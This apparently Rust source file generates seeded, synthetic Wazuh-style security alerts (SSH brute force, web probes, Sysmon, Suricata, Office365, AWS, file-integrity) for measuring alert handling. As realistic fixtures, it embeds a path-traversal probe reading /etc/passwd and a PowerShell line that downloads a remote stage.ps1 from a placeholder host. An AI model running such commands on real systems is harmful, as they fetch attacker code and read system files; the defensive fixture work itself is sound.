//! Alerts for measuring: of the kinds that managers see most, with values of our own.

use fastrand::Rng;
use serde_json::{Value, json};

/// One alert per line; the same every time.
pub fn varied(count: usize) -> Vec<String> {
    let mut rng = Rng::with_seed(4711);
    let kinds = [sshd, probe, sysmon, suricata, office, aws, fim, sshd, probe, session];
    (0..count)
        .map(|number| line(number, kinds.get(number % kinds.len()).map_or(json!({}), |kind| kind(&mut rng))))
        .collect()
}

/// Alerts in which nothing is to be found.
pub fn silent(count: usize) -> Vec<String> {
    let mut rng = Rng::with_seed(4711);
    (0..count)
        .map(|number| line(number, if number % 2 == 0 { session(&mut rng) } else { policy(&mut rng) }))
        .collect()
}

/// A brute force as it comes: nine of ten alerts from one address, the others from forty more.
pub fn storm(count: usize) -> Vec<String> {
    let mut rng = Rng::with_seed(4711);
    let others: Vec<String> = (1..=40).map(|last| format!("198.51.100.{last}")).collect();
    let mut one = |number| {
        let attacker = if rng.u8(..) < 230 { None } else { rng.choice(&others).cloned() };
        line(number, failed_login(&attacker.unwrap_or_else(|| "203.0.113.24".to_owned()), &mut rng))
    };
    (0..count).map(&mut one).collect()
}

/// As many alerts as addresses.
pub fn strangers(count: usize) -> Vec<String> {
    let mut rng = Rng::with_seed(4711);
    (0..count).map(|number| line(number, failed_login(&format!("2001:db8::{number:x}"), &mut rng))).collect()
}

fn line(number: usize, event: Value) -> String {
    let mut alert = json!({
        "timestamp": "2026-10-03T14:22:07.512+0200",
        "rule": {
            "level": 3 + number % 9, "id": (5700 + number % 90).to_string(), "firedtimes": number, "mail": false,
            "description": "An event of interest was seen on this host.",
            "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
            "groups": ["syslog", "authentication_failed"], "gdpr": ["IV_35.7.d", "IV_32.2"],
            "nist_800_53": ["SI.4", "AU.14", "AC.7"], "pci_dss": ["11.4", "10.2.4", "10.2.5"],
        },
        "agent": {"id": format!("{:03}", number % 300), "name": format!("host-{:03}", number % 300), "ip": "10.20.0.7"},
        "manager": {"name": "wazuh-1"},
        "id": format!("1791030127.{}", 4711 + number),
    });
    if let (Some(alert), Value::Object(event)) = (alert.as_object_mut(), event) {
        alert.extend(event);
    }
    alert.to_string()
}

/// One of the whole internet.
pub fn address(rng: &mut Rng) -> String {
    if rng.u8(..) < 24 {
        format!("2001:db8:{:x}::{:x}", rng.u16(1..), rng.u16(1..))
    } else {
        format!("{}.{}.{}.{}", rng.u8(11..224), rng.u8(..), rng.u8(..), rng.u8(1..))
    }
}

fn digits(rng: &mut Rng, count: usize) -> String {
    (0..count).map(|_| rng.digit(16)).collect()
}

fn sshd(rng: &mut Rng) -> Value {
    failed_login(&address(rng), rng)
}

/// An sshd's line with those before it.
pub fn failed_login(address: &str, rng: &mut Rng) -> Value {
    let line = format!(
        "Oct  3 14:22:06 web-01 sshd[881]: Failed password for root from {address} port {} ssh2",
        rng.u16(1024..)
    );
    let earlier = [line.as_str(); 4].join("\n");
    json!({
        "previous_output": earlier, "full_log": line,
        "predecoder": {"program_name": "sshd", "timestamp": "Oct  3 14:22:06", "hostname": "web-01"},
        "decoder": {"parent": "sshd", "name": "sshd"}, "location": "/var/log/auth.log",
        "data": {"srcip": address, "srcport": "50122", "dstuser": "root"},
    })
}

fn probe(rng: &mut Rng) -> Value {
    web(&address(rng), rng)
}

/// A web server's line about a probe.
pub fn web(address: &str, rng: &mut Rng) -> Value {
    let url = format!("/wp-content/plugins/x.php?file=../../etc/passwd&id={}", rng.u32(..));
    json!({
        "full_log": format!("{address} - - [03/Oct/2026:14:22:06 +0200] \"GET {url} HTTP/1.1\" 404 564 \"http://shop.example/cart\" \"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\""),
        "decoder": {"name": "web-accesslog"}, "location": "/var/log/nginx/access.log",
        "data": {"protocol": "GET", "srcip": address, "id": "404", "url": url},
    })
}

/// A process that was created on Windows.
pub fn sysmon(rng: &mut Rng) -> Value {
    let hashes = format!(
        "MD5={},SHA256={},IMPHASH={}",
        digits(rng, 32).to_uppercase(),
        digits(rng, 64).to_uppercase(),
        digits(rng, 32).to_uppercase()
    );
    let command = format!(
        "\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" -nop -c iwr http://cdn{}.example/stage.ps1",
        rng.u8(..)
    );
    json!({
        "decoder": {"name": "windows_eventchannel"}, "location": "EventChannel",
        "data": {"win": {
            "system": {
                "providerName": "Microsoft-Windows-Sysmon", "providerGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "eventID": "1",
                "version": "5", "level": "4", "systemTime": "2026-10-03T12:22:06.512Z", "channel": "Microsoft-Windows-Sysmon/Operational",
                "computer": "WS-0042", "message": format!("\"Process Create:\r\nUtcTime: 2026-10-03 12:22:06.512\r\nImage: C:\\Windows\\System32\\cmd.exe\r\nFileVersion: 10.0.19041.746\r\nCommandLine: {command}\r\nHashes: {hashes}\""),
            },
            "eventdata": {
                "image": "C:\\\\Windows\\\\System32\\\\cmd.exe", "fileVersion": "10.0.19041.746", "commandLine": command, "hashes": hashes,
                "user": "WS-0042\\\\anna", "queryName": format!("c{}.example", rng.u8(..)), "destinationIp": address(rng), "sourceIp": "10.20.0.42",
                "parentImage": "C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE", "ruleName": "technique_id=T1059.001",
            },
        }},
    })
}

fn suricata(rng: &mut Rng) -> Value {
    json!({
        "decoder": {"name": "json"}, "location": "/var/log/suricata/eve.json",
        "data": {
            "timestamp": "2026-10-03T14:22:06.512262+0200", "flow_id": rng.u32(..).to_string(), "in_iface": "eth0", "event_type": "alert",
            "src_ip": "10.20.0.42", "src_port": "50122", "dest_ip": address(rng), "dest_port": "443", "proto": "TCP",
            "alert": {"action": "allowed", "gid": "1", "signature_id": "2019236", "signature": "ET MALWARE Observed DNS Query to a known domain", "category": "A Network Trojan was detected", "severity": "1"},
            "http": {"hostname": format!("h{}.example", rng.u8(..)), "url": "/gate.php", "http_user_agent": "curl/8.5.0", "http_method": "POST"},
            "tls": {"sni": format!("s{}.example", rng.u8(..)), "version": "TLS 1.3", "ja3": {"hash": digits(rng, 32)}},
        },
    })
}

fn office(rng: &mut Rng) -> Value {
    json!({
        "decoder": {"name": "json"}, "location": "office365",
        "data": {"integration": "office365", "office365": {
            "CreationTime": "2026-10-03T12:22:06", "Id": "b2c7ed0a-6f1f-4d0b-8e0d-0c1d5c9d0001", "Operation": "UserLoginFailed",
            "OrganizationId": "0f1e2d3c-4b5a-4678-9abc-def012345678", "Workload": "AzureActiveDirectory", "ClientIP": format!("[{}]:49152", "2001:db8::7"),
            "ActorIpAddress": address(rng), "UserId": "anna@corp.example", "ResultStatus": "Success",
            "ExtendedProperties": [{"Name": "UserAgent", "Value": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"}, {"Name": "RequestType", "Value": "OAuth2:Token"}],
        }},
    })
}

fn aws(rng: &mut Rng) -> Value {
    json!({
        "decoder": {"name": "json"}, "location": "Wazuh-AWS",
        "data": {"integration": "aws", "aws": {
            "log_info": {"log_file": "AWSLogs/000000000000/CloudTrail/eu-central-1/2026/10/03/x.json.gz", "s3bucket": "trail"},
            "eventVersion": "1.08", "eventID": "7b1c0f6e-0a77-4c59-9f3c-2f3b7f9c0001", "eventTime": "2026-10-03T12:22:06Z", "source": "cloudtrail",
            "eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "awsRegion": "eu-central-1", "sourceIPAddress": address(rng),
            "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.ubuntu.22", "errorMessage": "Failed authentication",
            "userIdentity": {"type": "IAMUser", "accountId": "000000000000", "userName": "anna"},
        }},
    })
}

/// A file that was added.
pub fn fim(rng: &mut Rng) -> Value {
    let path =
        format!("/tmp/systemd-private-{}-apache2.service-qI66Ip/tmp/php{}", digits(rng, 32), digits(rng, 6));
    json!({
        "full_log": format!("File '{path}' added\nMode: realtime\n"), "decoder": {"name": "syscheck_new_entry"}, "location": "syscheck",
        "syscheck": {
            "path": path, "mode": "realtime", "size_after": "5265", "perm_after": "rw-------", "uid_after": "33", "event": "added",
            "md5_after": digits(rng, 32), "sha1_after": digits(rng, 40), "sha256_after": digits(rng, 64), "mtime_after": "2026-10-03T12:22:06",
        },
    })
}

fn session(rng: &mut Rng) -> Value {
    json!({
        "full_log": format!("Oct  3 14:22:06 web-01 sudo[{}]: pam_unix(sudo:session): session opened for user root(uid=0) by anna(uid=1000)", rng.u16(..)),
        "predecoder": {"program_name": "sudo", "timestamp": "Oct  3 14:22:06", "hostname": "web-01"},
        "decoder": {"parent": "pam", "name": "pam"}, "location": "/var/log/auth.log", "data": {"srcuser": "anna", "dstuser": "root", "uid": "1000"},
    })
}

fn policy(rng: &mut Rng) -> Value {
    json!({
        "decoder": {"name": "sca"}, "location": "sca",
        "data": {"sca": {"type": "check", "scan_id": rng.u32(..).to_string(), "policy": "CIS Benchmark v1.12.0", "check": {
            "id": "15500", "title": "Ensure 'Enforce password history' is set.", "result": "failed", "previous_result": "passed",
            "rationale": "The longer a user uses the same password, the greater the chance that an attacker can determine it.",
            "compliance": {"cis": "1.1.1", "cis_csc": "5.2"}, "command": ["net.exe accounts"],
        }}},
    })
}
